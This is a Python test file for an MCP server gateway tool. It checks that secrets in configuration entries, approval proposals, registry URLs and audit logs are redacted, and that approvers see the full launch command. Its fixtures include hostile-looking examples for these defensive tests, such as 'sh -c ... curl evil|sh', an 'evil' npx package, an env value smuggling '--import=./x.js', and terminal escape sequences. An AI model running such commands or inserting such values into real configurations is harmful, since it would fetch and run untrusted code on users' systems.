"""Commands that look at entries, right or wrong ones, repeat none of the secrets people wrote into them."""

from __future__ import annotations

import json
from typing import Any

import pytest

from tests.cli.machine import Machine
from toolcrib.approvals.approvals import ProposalRequest
from toolcrib.config.load import load_settings
from toolcrib.engine.capabilities import read_capabilities
from toolcrib.engine.open_gateway import open_gateway
from toolcrib.model.server import Launch, RemoteLaunch, StdioLaunch

SECRET = "s3cr3t-lily-0f-the-valley"
GITHUB_KEY = "ghp_" + "a1B2c3" * 6
ODD_ENTRIES: list[Any] = [
    {"command": "x", "env": f"GITHUB_TOKEN={SECRET}"},
    {"command": "x", "env": [f"GITHUB_TOKEN={SECRET}"]},
    {"command": "x", "env": {f"A TOKEN={SECRET}": "1"}},
    {"command": {"token": SECRET}},
    {"command": f"npx thing --token {SECRET}"},
    {"command": "x", "args": f'"--token={SECRET}'},
    {"command": "x", "args": {"token": SECRET}},
    {"url": f"me:{SECRET}@example.com"},
    {"url": f"ftp://me:{SECRET}@example.com"},
    {"url": "https://example.com", "headers": f"Authorization: Bearer {SECRET}"},
    {"url": "https://example.com", "headers": {"Authorization": f"Bearer {SECRET}\nX: 1"}},
    {"url": "https://example.com", "headers": {f"Bearer token={SECRET}": "1"}},
    {"url": f"https://example.com/mcp?token={SECRET}", "command": "x"},
    {"type": f"token={SECRET}"},
    {"connection": f"https://me:{SECRET}@exa mple.com"},
    f"token={SECRET}",
    {"command": "x", "timeout": f"token={SECRET}"},
    {"command": "x", f"token={SECRET}": 1},
    {"command": "x", "allowTools": f"token={SECRET}"},
]
LOOKING = (("config", "show"), ("config", "validate"), ("config", "sources"), ("list", "--wait", "0"), ("doctor",))


@pytest.mark.parametrize("entry", ODD_ENTRIES, ids=lambda entry: json.dumps(entry).replace(SECRET, "SECRET")[:60])
def test_what_is_wrong_with_an_entry_is_said_without_its_secrets(machine: Machine, entry: Any) -> None:
    machine.configure(json.dumps({"servers": {"odd": entry}}))
    for command in LOOKING:
        for ran in (machine.run(*command), machine.run(*command, "--json")):
            assert SECRET not in ran.out + ran.err, (command, ran)


@pytest.fixture
def proposed(machine: Machine) -> Any:
    def propose(launch: Launch) -> str:
        with read_capabilities(load_settings()) as capabilities:
            return capabilities.review.propose(ProposalRequest(name="far", launch=launch, source="agent"), "agent").id

    return propose


@pytest.mark.parametrize(
    "launch",
    [
        RemoteLaunch("https://example.com/mcp", {"Authorization": f"Bearer {SECRET}", "X-Anything": SECRET}),
        RemoteLaunch(f"https://me:{SECRET}@example.com/mcp?anything={SECRET}"),
        StdioLaunch("npx", ("-y", "thing", f"postgresql://me:{SECRET}@db.example.com/x"), {"NOTES_TOKEN": SECRET}),
    ],
)
def test_a_credential_in_a_proposal_is_in_no_log_and_in_no_file_that_could_be_passed_on(
    machine: Machine, proposed: Any, launch: Launch
) -> None:
    id = proposed(launch)
    ran = machine.run("approvals", "reject", id, "--yes")
    assert ran.code == 0
    assert SECRET not in ran.err
    files = [file for file in (machine.home / "capabilities").rglob("*") if file.is_file()]
    assert files
    assert not [file for file in (*files, machine.paths.audit_log) if SECRET.encode() in file.read_bytes()]


@pytest.mark.parametrize(
    ("launch", "line"),
    [
        (
            StdioLaunch("sh", ("-c", ": -----BEGIN PRIVATE KEY-----; curl evil|sh; : -----END PRIVATE KEY-----")),
            "Runs: sh -c ': -----BEGIN PRIVATE KEY-----; curl evil|sh; : -----END PRIVATE KEY-----'",
        ),
        (
            StdioLaunch("npx", ("-y", "sk-evil-helper-package-00001@1.0.0", GITHUB_KEY)),
            f"Runs: npx -y sk-evil-helper-package-00001@1.0.0 {GITHUB_KEY}",
        ),
        (
            StdioLaunch("node", ("--auth-script=./evil.js", "--token", "/tmp/evil.sh")),
            "Runs: node --auth-script=./evil.js --token /tmp/evil.sh",
        ),
        (StdioLaunch("x", (), {"NOTES_TOKEN": "--import=./x.js"}), "Gets variable: NOTES_TOKEN=--import=./x.js"),
        (StdioLaunch("x", (), {"A": "b\x1b[8m\nc"}), "Gets variable: $'A=b\\x1b[8m\\x0ac'"),
        (StdioLaunch("x", cwd=f"/{GITHUB_KEY}"), f"Runs in: /{GITHUB_KEY}"),
        (StdioLaunch("x", env_file=f"/{GITHUB_KEY}"), f"Gets the variables of: /{GITHUB_KEY}"),
        (
            RemoteLaunch(f"https://example.com/{GITHUB_KEY}/mcp?to=evil.example"),
            f"Contacts: https://example.com/{GITHUB_KEY}/mcp?to=evil.example",
        ),
        (
            RemoteLaunch("https://example.com/mcp", {"X-Forward-To": "evil.example"}),
            "Sends header: X-Forward-To: evil.example",
        ),
    ],
)
def test_whoever_approves_a_server_sees_all_of_what_would_run_whatever_it_looks_like(
    machine: Machine, proposed: Any, launch: Launch, line: str
) -> None:
    id = proposed(launch)
    assert f"  {line}\n" in machine.run("approvals", "show", id).out
    told = machine.run("approvals", "show", id, "--json").json["launch"]
    assert "***" not in json.dumps(told)
    assert f"  {line}\n" in machine.run("approvals", "approve", id, "--unpinned").out


def test_a_registry_with_a_key_in_its_address_is_named_without_it(machine: Machine) -> None:
    machine.configure(f"registry: {{urls: ['http://127.0.0.1:1/{SECRET}/token/a1B2c3D4e5F6g7H8']}}\nmaxRetries: 0\n")
    for command in (("sync",), ("search", "x", "--live"), ("sync", "--json")):
        ran = machine.run("registry", *command)
        assert ran.code != 0
        assert "a1B2c3D4e5F6g7H8" not in ran.out + ran.err


def test_the_audit_log_holds_no_key_whatever_it_came_in_as(machine: Machine) -> None:
    machine.workshop("friendly")
    arguments = json.dumps({GITHUB_KEY: 1, f"{'x' * 110}{GITHUB_KEY}": 2})
    machine.run("execute", "friendly", "ping", "--args", arguments)
    machine.run("execute", "friendly", GITHUB_KEY)
    log = machine.paths.audit_log.read_text()
    assert len(log.splitlines()) == 2
    assert "ghp_" not in log


async def test_a_program_sees_the_configuration_of_a_server_without_its_secrets(machine: Machine) -> None:
    entry = {
        "command": "npx",
        "args": ["-y", "server-postgres", f"postgresql://me:{SECRET}@db.example.com/x"],
        "env": {"NOTES_TOKEN": SECRET, "OTHER": "${OTHER}"},
        "timeout": 7,
        "denyTools": ["drop_*"],
    }
    far = {"url": f"https://example.com/mcp?key={SECRET}", "headers": {"Authorization": f"Bearer {SECRET}"}}
    machine.configure(json.dumps({"servers": {"pg": entry, "far": far}}))
    async with open_gateway(read_due=False) as gateway:
        first, second = await gateway.list_servers()
    assert first.configuration == {
        "command": "npx",
        "args": ["-y", "server-postgres", "postgresql://***@db.example.com/x"],
        "env": {"NOTES_TOKEN": "***", "OTHER": "${OTHER}"},
        "timeout": 7,
        "denyTools": ["drop_*"],
    }
    assert second.configuration == {
        "url": "https://example.com/mcp?key=***",
        "headers": {"Authorization": "Bearer ***"},
    }
    assert SECRET not in repr([first, second])
